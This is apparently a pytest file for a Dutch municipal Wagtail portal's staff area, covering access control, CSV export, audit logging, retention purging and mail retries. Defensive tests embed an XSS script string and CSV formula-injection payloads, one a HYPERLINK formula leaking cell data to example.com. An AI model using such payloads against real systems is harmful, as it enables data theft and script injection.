"""The loket as 't Baken works with it: the staff area in the Wagtail admin (list per flow, filters,
decrypted detail, status, CSV export, audit trail), removal after the retention period, and e-mail
that is retried until it is sent.

The demo data come from the session's `setup_demo` (tests/conftest.py).
"""

from __future__ import annotations

import csv
import io
import re
from datetime import timedelta

import pytest
from django.contrib.auth.models import Group
from django.core.management import call_command
from django.test import Client
from django.utils import timezone
from wagtail.models import ModelLogEntry

from loket.models import Bericht, FlowPage, Inzending
from loket.outbox import MAX_ATTEMPTS
from loket.tasks import purge_submissions_task, send_message
from tests import factories
from tests.loket.support import (
    COMPLIMENT,
    MELDING,
    MELDING_ANDER,
    MELDING_ZELF,
    MZC,
    complete,
    get_ok,
    html,
    page,
)

ADMIN = "/admin/inzendingen/"
EXPORT = f"{ADMIN}export/"


def detail(inzending) -> str:
    return f"{ADMIN}{inzending.pk}/"


def status_url(inzending) -> str:
    return f"{ADMIN}{inzending.pk}/status/"


# --- fixtures ------------------------------------------------------------------------------------------


@pytest.fixture
def medewerker(django_user_model):
    user = django_user_model.objects.create_user(
        "mieke", "mieke@lochem.nl", "geheim-wachtwoord", first_name="Mieke", last_name="Mulder"
    )
    user.groups.add(factories.lochem_gemeente().medewerkers)
    return user


@pytest.fixture
def staff(medewerker) -> Client:
    client = Client()
    client.force_login(medewerker)
    return client


@pytest.fixture
def redacteur(django_user_model):
    """An editor of the site: may use the Wagtail admin, but is no medewerker of 't Baken."""
    user = django_user_model.objects.create_user(
        "redacteur", "redactie@lochem.nl", "geheim-wachtwoord", first_name="Rik", last_name="Redactie"
    )
    user.groups.add(Group.objects.get(name="Editors"))
    return user


@pytest.fixture
def editor(redacteur) -> Client:
    client = Client()
    client.force_login(redacteur)
    return client


@pytest.fixture
def ingezonden():
    """A melding (for someone else) and a compliment, sent in by inwoners."""
    complete(Client(), MELDING, MELDING_ANDER)
    complete(Client(), MZC, COMPLIMENT)
    return Inzending.objects.get(flow="melding"), Inzending.objects.get(flow="mantelzorgcompliment")


def export_rows(response) -> list[list[str]]:
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")  # a BOM, so Excel reads UTF-8
    return list(csv.reader(io.StringIO(text[1:]), delimiter=";"))


def log_entries(inzending, action):
    return list(ModelLogEntry.objects.for_instance(inzending).filter(action=action).select_related("user"))


# --- the staff area and who may use it -----------------------------------------------------------------


def test_staff_member_sees_the_menu_item_and_the_submissions_of_both_flows(staff, ingezonden):
    melding, compliment = ingezonden
    dashboard = get_ok(staff, "/admin/")
    assert ADMIN in dashboard and "Inzendingen loket" in dashboard

    listing = get_ok(staff, ADMIN)
    assert "2 inzending(en)." in listing
    for item in ingezonden:
        assert f'<a href="{detail(item)}">{item.referentie}</a>' in listing
    assert "Melding doen: ondersteuning vragen" in listing and "Mantelzorgcompliment aanvragen" in listing
    assert "Exporteren als CSV" in listing
    assert "wonen, vervoer" in listing  # the subjects, which are not personal
    # The list itself shows nothing personal: that is only in the detail, which is logged.
    for persoonlijk in ("Wesselink", "Molenstraat", "Anna de Vries", "ABNA"):
        assert persoonlijk not in listing


def test_superuser_sees_the_submissions_too(admin_client, ingezonden):
    assert ADMIN in get_ok(admin_client, "/admin/")
    assert ingezonden[0].referentie in get_ok(admin_client, ADMIN)


def test_editor_without_the_staff_permission_sees_no_menu_item_and_no_submission(editor, ingezonden):
    melding, _ = ingezonden
    dashboard = get_ok(editor, "/admin/")  # an editor may use the admin ...
    assert ADMIN not in dashboard and "Inzendingen loket" not in dashboard  # ... but not this part

    for url in (ADMIN, detail(melding), EXPORT, f"{EXPORT}?flow=melding"):
        response = editor.get(url)
        assert response.status_code in (302, 403), url
        if response.status_code == 302:
            assert response["Location"] == "/admin/", url
        assert melding.referentie.encode() not in response.content
        assert b"Wesselink" not in response.content
        assert response.get("Content-Type", "").split(";")[0] != "text/csv"

    response = editor.post(status_url(melding), {"status": "afgehandeld"})
    assert response.status_code in (302, 403) and response.get("Location") != detail(melding)
    melding.refresh_from_db()
    assert melding.status == "ontvangen"
    # Refused attempts leave nothing behind: no view, no export, no status change was logged.
    assert not ModelLogEntry.objects.for_instance(melding).exists()


def test_anonymous_visitor_is_sent_to_the_admin_login(client, ingezonden):
    melding, _ = ingezonden
    for url in (ADMIN, detail(melding), EXPORT):
        response = client.get(url)
        assert response.status_code == 302 and response["Location"].startswith("/admin/login/"), url
        assert melding.referentie.encode() not in response.content


# --- list and filters ----------------------------------------------------------------------------------


def test_list_filters_by_flow_status_date_and_reference(staff, ingezonden):
    melding, compliment = ingezonden
    vorige_maand = timezone.now() - timedelta(days=40)
    Inzending.objects.filter(pk=compliment.pk).update(ingediend_op=vorige_maand, status="toegekend")

    def shown(query: str) -> set[str]:
        listing = get_ok(staff, f"{ADMIN}?{query}")
        return {item.referentie for item in ingezonden if item.referentie in listing}

    assert shown("flow=melding") == {melding.referentie}
    assert shown("flow=mantelzorgcompliment") == {compliment.referentie}
    assert shown("status=toegekend") == {compliment.referentie}
    assert shown("status=ontvangen") == {melding.referentie}
    vandaag = timezone.localdate()
    assert shown(f"vanaf={vandaag.isoformat()}") == {melding.referentie}
    assert shown(f"tot={(vandaag - timedelta(days=1)).isoformat()}") == {compliment.referentie}
    assert shown(f"tot={vandaag.isoformat()}") == {melding.referentie, compliment.referentie}
    assert shown(f"referentie={melding.referentie.lower()}") == {melding.referentie}
    assert shown("flow=melding&status=toegekend") == set()
    assert "Geen inzendingen gevonden." in get_ok(staff, f"{ADMIN}?flow=melding&status=toegekend")
    # A filter that makes no sense shows nothing rather than everything.
    assert shown("vanaf=gisteren") == set()
    assert shown("flow=bestaat-niet") == set()


# --- detail and status ---------------------------------------------------------------------------------


def test_detail_shows_the_answers_decrypted_with_the_rules_of_that_day(staff, ingezonden):
    melding, compliment = ingezonden
    page_html = get_ok(staff, detail(melding))
    assert melding.referentie in page_html
    for antwoord in (
        "Grietje Wesselink",
        "Ander familielid",
        "Hendrik Wesselink",
        "14 maart 1941",
        "7241 AB",
        "grietje@example.nl",
        "Wonen en huishouden, Vervoer",
        "Mijn vader valt vaak en komt de trap niet meer op.",
    ):
        assert antwoord in page_html, antwoord
    assert "Uw vraag in eigen woorden" in page_html  # the question as the inwoner saw it
    assert melding.versie_titel and melding.versie_titel in page_html
    assert f'href="{melding.versie.url}"' in page_html
    assert "<dd>Ontvangen</dd>" in page_html

    page_html = get_ok(staff, detail(compliment))
    for antwoord in ("Anna de Vries", "NL91 ABNA 0417 1643 00", "Jan de Vries", "2 mei 1968"):
        assert antwoord in page_html, antwoord


def test_text_an_inwoner_typed_cannot_run_script_in_the_staff_area(staff):
    answers = MELDING_ZELF | {
        "vraag": {"onderwerpen": ["anders"], "vraag": '<script>alert("x")</script> Graag hulp.'}
    }
    complete(Client(), MELDING, answers)
    page_html = get_ok(staff, detail(Inzending.objects.get()))
    assert "&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt; Graag hulp." in page_html
    assert '<script>alert("x")</script>' not in page_html


def test_staff_change_the_status_of_a_melding(staff, ingezonden):
    melding, _ = ingezonden
    form = get_ok(staff, detail(melding))
    assert f'action="{status_url(melding)}"' in form
    for waarde in ("ontvangen", "in_behandeling", "afgehandeld"):
        assert f'value="{waarde}"' in form
    assert 'value="toegekend"' not in form  # compliment statuses are not offered for a melding

    for status, label in (("in_behandeling", "In behandeling"), ("afgehandeld", "Afgehandeld")):
        response = staff.post(status_url(melding), {"status": status})
        assert response.status_code == 302 and response["Location"] == detail(melding)
        melding.refresh_from_db()
        assert melding.status == status
        page_html = get_ok(staff, detail(melding))
        assert f"Status van {melding.referentie} is nu ‘{label}’." in page_html
        assert f"<dd>{label}</dd>" in page_html

    assert get_ok(staff, f"{ADMIN}?status=afgehandeld").count(melding.referentie) == 1
    assert staff.get(status_url(melding)).status_code == 405  # only a POST changes anything


@pytest.mark.parametrize(
    "flow, allowed, refused",
    [
        ("melding", ["in_behandeling", "afgehandeld", "ontvangen"], ["toegekend", "afgewezen", "uitbetaald"]),
        ("mantelzorgcompliment", ["in_behandeling", "toegekend", "afgewezen", "uitbetaald"], ["afgehandeld"]),
    ],
)
def test_only_statuses_of_the_flow_are_accepted(staff, ingezonden, flow, allowed, refused):
    item = next(i for i in ingezonden if i.flow == flow)
    for status in allowed:
        staff.post(status_url(item), {"status": status})
        item.refresh_from_db()
        assert item.status == status
    before = item.status
    for status in [*refused, "verwijderd", ""]:
        response = staff.post(status_url(item), {"status": status}, follow=True)
        assert response.status_code == 200
        assert "Deze status past niet bij dit formulier." in html(response)
        item.refresh_from_db()
        assert item.status == before, status


# --- CSV export ----------------------------------------------------------------------------------------


def test_csv_export_has_one_row_per_answer_decrypted(staff, ingezonden):
    melding, compliment = ingezonden
    listing = get_ok(staff, f"{ADMIN}?flow=melding")
    assert f'href="{EXPORT}?flow=melding"' in listing  # the export follows the filter

    response = staff.get(EXPORT)
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="inzendingen-')
    rows = export_rows(response)
    assert rows[0] == [
        "referentie",
        "formulier",
        "ingediend_op",
        "status",
        "geldende_regeling",
        "vraag",
        "antwoord",
    ]
    per_ref = {}
    for row in rows[1:]:
        per_ref.setdefault(row[0], []).append(row)
    assert set(per_ref) == {melding.referentie, compliment.referentie}
    vragen = {row[5]: row[6] for row in per_ref[melding.referentie]}
    assert vragen["Om wie gaat het: Naam"] == "Hendrik Wesselink"
    assert vragen["Om wie gaat het: Geboortedatum"] == "14 maart 1941"
    assert vragen["Over u als melder: Uw naam"] == "Grietje Wesselink"
    assert vragen["Uw vraag: Waar gaat uw vraag over?"] == "Wonen en huishouden, Vervoer"
    assert (
        vragen["Uw vraag: Uw vraag in eigen woorden"] == "Mijn vader valt vaak en komt de trap niet meer op."
    )
    first = per_ref[melding.referentie][0]
    assert first[1:5] == [
        "melding",
        timezone.localtime(melding.ingediend_op).isoformat(timespec="minutes"),
        "Ontvangen",
        melding.versie_titel,
    ]
    assert "NL91 ABNA 0417 1643 00" in {row[6] for row in per_ref[compliment.referentie]}

    filtered = export_rows(staff.get(f"{EXPORT}?flow=mantelzorgcompliment"))
    assert {row[0] for row in filtered[1:]} == {compliment.referentie}


def test_csv_export_neutralises_what_a_spreadsheet_would_run_as_a_formula(staff):
    kwaad = {
        "naam": '=HYPERLINK("http://example.com/?"&A1;"klik")',
        "straat": "+31 Molenstraat",
        "vraag": "-2+3 en @SUM(A1:A9)",
        "wie_helpt": "@SUM(A1:A9)",
    }
    answers = MELDING_ZELF | {
        "persoon": MELDING_ZELF["persoon"] | {"naam": kwaad["naam"], "straat": kwaad["straat"]},
        "vraag": {"onderwerpen": ["anders"], "vraag": kwaad["vraag"]},
        "hulp": {"wie_helpt": kwaad["wie_helpt"]},
    }
    complete(Client(), MELDING, answers)
    rows = export_rows(staff.get(EXPORT))
    antwoorden = [row[6] for row in rows[1:]]
    for value in kwaad.values():
        assert "'" + value in antwoorden, value
    for row in rows:
        for cell in row:
            assert cell[:1] not in ("=", "+", "-", "@"), cell
    assert "Hendrik Wesselink" not in antwoorden and "Molenstraat" not in antwoorden


# --- audit trail ---------------------------------------------------------------------------------------


def test_viewing_changing_and_exporting_are_logged_with_the_user(staff, medewerker, ingezonden):
    melding, compliment = ingezonden
    assert not ModelLogEntry.objects.for_instance(melding).exists()

    get_ok(staff, detail(melding))
    [bekeken] = log_entries(melding, "loket.bekeken")
    assert bekeken.user == medewerker
    assert not log_entries(compliment, "loket.bekeken")  # only what was opened

    staff.post(status_url(melding), {"status": "in_behandeling"})
    [gewijzigd] = log_entries(melding, "loket.status")
    assert gewijzigd.user == medewerker
    assert gewijzigd.data == {"van": "Ontvangen", "naar": "In behandeling"}

    staff.get(f"{EXPORT}?flow=melding")
    [geexporteerd] = log_entries(melding, "loket.geexporteerd")
    assert geexporteerd.user == medewerker
    assert not log_entries(compliment, "loket.geexporteerd")  # filtered out: not exported
    staff.get(EXPORT)
    assert len(log_entries(melding, "loket.geexporteerd")) == 2
    assert [e.user for e in log_entries(compliment, "loket.geexporteerd")] == [medewerker]

    # The history on the detail page names who did what.
    geschiedenis = get_ok(staff, detail(melding)).split("<h2>Geschiedenis</h2>")[1]
    for message in ("Inzending bekeken", "Status van de inzending gewijzigd", "Inzending geëxporteerd (CSV)"):
        assert f"{message} door Mieke Mulder" in geschiedenis, message


# --- removal after the retention period ----------------------------------------------------------------


def _age(inzending, days: int) -> None:
    Inzending.objects.filter(pk=inzending.pk).update(ingediend_op=timezone.now() - timedelta(days=days))


def purge_command() -> tuple[int, dict[str, int]]:
    """Run `purge_submissions`; (the total it reports, the count per flow)."""
    out = io.StringIO()
    call_command("purge_submissions", stdout=out)
    text = out.getvalue().strip()
    match = re.fullmatch(r"(\d+) inzending\(en\) verwijderd \((.*)\)\.", text)
    assert match, text
    per_flow = {flow: int(n) for flow, n in re.findall(r"([a-z_]+): (\d+)", match.group(2))}
    return int(match.group(1)), per_flow


def _three_submissions():
    """Two meldingen and a compliment; the melding page keeps submissions 30 days."""
    factories.inzending()
    factories.inzending()
    complete(Client(), MZC, COMPLIMENT)
    oud, recent = Inzending.objects.filter(flow="melding").order_by("pk")
    compliment = Inzending.objects.get(flow="mantelzorgcompliment")
    FlowPage.objects.filter(flow="melding").update(bewaartermijn_dagen=30)
    assert page("mantelzorgcompliment").bewaartermijn_dagen == 730
    _age(oud, 31)
    _age(recent, 29)
    _age(compliment, 31)  # older than 30 days, but its flow keeps submissions for 730
    return oud, recent, compliment


def test_purge_submissions_removes_only_what_is_past_the_retention_period_of_its_flow():
    oud, recent, compliment = _three_submissions()
    assert Bericht.objects.filter(inzending=oud).exists()

    total, per_flow = purge_command()
    assert per_flow["mantelzorgcompliment"] == 0 and per_flow["melding"] > 0
    assert set(Inzending.objects.values_list("pk", flat=True)) == {recent.pk, compliment.pk}
    assert not Bericht.objects.filter(inzending_id=oud.pk).exists()  # its e-mails go with it
    assert Bericht.objects.filter(inzending=recent).exists()

    total, per_flow = purge_command()
    assert total == 0 and per_flow["melding"] == 0
    assert Inzending.objects.count() == 2


def test_purge_task_removes_old_submissions():
    complete(Client(), MZC, COMPLIMENT)
    complete(Client(), MELDING, MELDING_ZELF)
    _age(Inzending.objects.get(flow="mantelzorgcompliment"), 731)
    result = purge_submissions_task.enqueue()
    assert result.return_value["melding"] == 0 and result.return_value["mantelzorgcompliment"] > 0
    assert list(Inzending.objects.values_list("flow", flat=True)) == ["melding"]


def test_purge_reports_the_number_of_submissions_removed():
    _three_submissions()
    total, per_flow = purge_command()
    assert (total, per_flow["melding"], per_flow["mantelzorgcompliment"]) == (1, 1, 0)


def test_purge_task_returns_the_number_of_submissions_removed():
    complete(Client(), MZC, COMPLIMENT)
    _age(Inzending.objects.get(), 731)
    counts = purge_submissions_task.enqueue().return_value
    assert (counts["melding"], counts["mantelzorgcompliment"]) == (0, 1)


# --- e-mail through the task backend, retried until sent -----------------------------------------------


def test_mail_that_fails_waits_and_verstuur_berichten_sends_it_later(
    client, flaky_mail, mailoutbox, django_capture_on_commit_callbacks, staff
):
    flaky_mail.failures = 2  # the notification and the confirmation both fail once
    with django_capture_on_commit_callbacks(execute=True):
        confirmation = complete(client, MELDING, MELDING_ANDER)
    assert "Uw melding is verstuurd" in get_ok(client, confirmation)  # the inwoner is not bothered
    inzending = Inzending.objects.get()
    assert mailoutbox == []
    assert set(inzending.berichten.values_list("status", "pogingen", "laatste_fout")) == {
        ("wachtend", 1, "SMTPException")
    }
    assert "notificatie: wachtend (1 poging(en))" in get_ok(staff, detail(inzending))

    out = io.StringIO()
    call_command("verstuur_berichten", stdout=out)
    assert out.getvalue().strip() == "verzonden: 2"
    assert sorted(m.to[0] for m in mailoutbox) == ["grietje@example.nl", "tbaken@lochem.nl"]
    assert all(inzending.referentie in m.subject for m in mailoutbox)
    assert set(inzending.berichten.values_list("status", "pogingen", "laatste_fout")) == {
        ("verzonden", 2, "")
    }
    assert all(b.verzonden_op for b in inzending.berichten.all())

    # Sent is sent: a later run sends nothing twice.
    out = io.StringIO()
    call_command("verstuur_berichten", stdout=out)
    assert out.getvalue().strip() == "niets te versturen"
    assert len(mailoutbox) == 2


def test_mail_that_keeps_failing_is_kept_and_marked_after_the_last_attempt(
    client, flaky_mail, mailoutbox, django_capture_on_commit_callbacks, staff
):
    flaky_mail.failures = 1000
    answers = MELDING_ZELF | {"contact": {"telefoon": "0573 123 456", "email": "", "voorkeur": "telefoon"}}
    with django_capture_on_commit_callbacks(execute=True):
        complete(client, MELDING, answers)
    bericht = Bericht.objects.get()  # only the notification to 't Baken
    for attempt in range(2, MAX_ATTEMPTS + 1):
        call_command("verstuur_berichten", stdout=io.StringIO())
        bericht.refresh_from_db()
        assert bericht.pogingen == attempt
    assert bericht.status == Bericht.MISLUKT and bericht.laatste_fout == "SMTPException"
    # Not lost: the message and its content stay, and the staff see that it failed.
    assert bericht.inhoud["aan"] == ["tbaken@lochem.nl"]
    assert "notificatie: mislukt (5 poging(en))" in get_ok(staff, detail(bericht.inzending))
    out = io.StringIO()
    call_command("verstuur_berichten", stdout=out)
    assert out.getvalue().strip() == "niets te versturen"
    assert mailoutbox == []


def test_mail_tasks_are_enqueued_only_after_commit_and_retried_later_by_a_deferring_backend(
    client, settings, flaky_mail, mailoutbox, django_capture_on_commit_callbacks
):
    from django_tasks import default_task_backend

    settings.TASKS = {"default": {"BACKEND": "django_tasks.backends.dummy.DummyBackend"}}
    with django_capture_on_commit_callbacks(execute=True):
        complete(client, MELDING, MELDING_ZELF)
        assert default_task_backend.results == []  # nothing before the commit
    queued = default_task_backend.results
    berichten = set(Bericht.objects.values_list("pk", flat=True))
    assert len(queued) == 2 and {r.args[0] for r in queued} == berichten
    assert {r.task.name for r in queued} == {"send_message"}

    flaky_mail.failures = 1
    pk = queued[0].args[0]
    voor = timezone.now()
    with django_capture_on_commit_callbacks(execute=True):
        assert send_message.call(pk) == "mislukt"
    retry = default_task_backend.results[-1]
    assert len(default_task_backend.results) == 3 and retry.args == [pk]
    assert voor + timedelta(minutes=2) <= retry.task.run_after <= timezone.now() + timedelta(minutes=2)

    assert send_message.call(pk) == "verzonden"
    assert send_message.call(pk) == "overgeslagen"  # at most once, also when a retry runs late
    assert len(mailoutbox) == 1


# --- urgent meldingen ----------------------------------------------------------------------------------


MELDING_DRINGEND = MELDING_ANDER | {"spoed": {"spoed": "ja"}}


def test_urgent_melding_mail_to_staff_says_spoed_first_and_still_nothing_personal(
    mailoutbox, django_capture_on_commit_callbacks
):
    with django_capture_on_commit_callbacks(execute=True):
        complete(Client(), MELDING, MELDING_DRINGEND)
        complete(Client(), MELDING, MELDING_ZELF)
    dringend, gewoon = Inzending.objects.order_by("-spoed")
    aan_baken = [m for m in mailoutbox if m.to == [page("melding").notificatie_email]]
    [notificatie] = [m for m in aan_baken if dringend.referentie in m.subject]
    assert notificatie.subject.startswith("SPOED")
    for persoonlijk in ("Wesselink", "Molenstraat", "grietje", "0573 123 456"):
        assert persoonlijk not in notificatie.subject + notificatie.body
    # A melding that can wait is not shouted about.
    [andere] = [m for m in aan_baken if gewoon.referentie in m.subject]
    assert not andere.subject.startswith("SPOED")


def test_staff_list_shows_and_filters_urgency_with_urgent_open_meldingen_first(staff, ingezonden):
    melding, compliment = ingezonden
    complete(Client(), MELDING, MELDING_DRINGEND)
    dringend = Inzending.objects.get(spoed=True)
    # The urgent one is the oldest, yet comes first while it is open.
    Inzending.objects.filter(pk=dringend.pk).update(ingediend_op=timezone.now() - timedelta(days=3))

    def order(query: str = "") -> list[str]:
        listing = get_ok(staff, f"{ADMIN}?{query}")
        found = [(listing.find(item.referentie), item.referentie) for item in (melding, compliment, dringend)]
        return [referentie for position, referentie in sorted(found) if position >= 0]

    listing = get_ok(staff, ADMIN)
    assert "Spoed" in listing.split(dringend.referentie)[1].split("</tr>")[0]
    assert order()[0] == dringend.referentie
    assert order("spoed=ja") == [dringend.referentie]
    assert dringend.referentie not in order("spoed=nee") and len(order("spoed=nee")) == 2
    # Once handled it takes its place by date again.
    Inzending.objects.filter(pk=dringend.pk).update(status="afgehandeld")
    assert order()[-1] == dringend.referentie


def test_confirmation_of_an_urgent_melding_says_it_is_marked_urgent_with_the_crisis_numbers(
    mailoutbox, django_capture_on_commit_callbacks
):
    client = Client()
    with django_capture_on_commit_callbacks(execute=True):
        bevestiging = get_ok(client, complete(client, MELDING, MELDING_DRINGEND))
    waarschuwing = bevestiging.split('<div class="loket-waarschuwing" role="note"')[1]
    assert "gemarkeerd als dringend" in waarschuwing
    assert 'href="tel:112"' in waarschuwing and "0800 2000" in waarschuwing
    [mail] = [m for m in mailoutbox if m.to == ["grietje@example.nl"]]
    assert "dringend" in mail.body and "gemarkeerd als spoed" in mail.body and "112" in mail.body

    # A melding that can wait has no such block, on the page or in the mail.
    mailoutbox.clear()
    client = Client()
    with django_capture_on_commit_callbacks(execute=True):
        bevestiging = get_ok(client, complete(client, MELDING, MELDING_ZELF))
    assert "loket-waarschuwing" not in bevestiging
    assert mailoutbox and all("gemarkeerd als spoed" not in m.body for m in mailoutbox)
